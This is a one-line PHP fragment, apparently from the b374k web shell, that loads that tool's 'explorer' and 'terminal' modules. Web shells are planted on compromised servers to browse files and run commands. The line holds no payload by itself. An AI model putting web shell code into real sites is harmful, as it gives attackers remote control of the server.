<?php $GLOBALS['module_to_load'] = array("explorer", "terminal"); // b374k
